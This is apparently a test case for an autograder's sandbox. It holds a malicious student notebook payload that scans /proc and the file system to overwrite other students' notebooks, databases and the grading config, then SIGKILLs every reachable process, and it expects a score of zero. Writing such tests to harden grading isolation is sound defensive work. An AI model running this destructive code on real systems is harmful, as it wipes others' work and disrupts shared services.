"""Goes after the other students: overwrites their submitted notebooks and the course config
wherever it can find them (through /proc/*/cwd, /proc/*/cmdline and the file system), and
SIGKILLs every process it can see. The honest students keep full marks."""
EXPECT = {"max_score": 0}

CODE = '''
import os, glob, signal
targets = set(glob.glob("/**/submitted/*/01_arrays/*.ipynb", recursive=True))
targets |= set(glob.glob("/**/nbgrader_config.py", recursive=True))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            root = os.readlink(f"/proc/{pid}/cwd")
            targets |= set(glob.glob(root + "/**/*.ipynb", recursive=True))
            targets |= set(glob.glob(root + "/**/*.db", recursive=True))
        except OSError:
            pass
for path in targets:
    try:
        with open(path, "w") as f:
            f.write("{}")
    except OSError:
        pass
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid() and int(pid) > 2:
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
'''


def build(kit):
    return {"01_arrays.ipynb": kit.attack(CODE)}
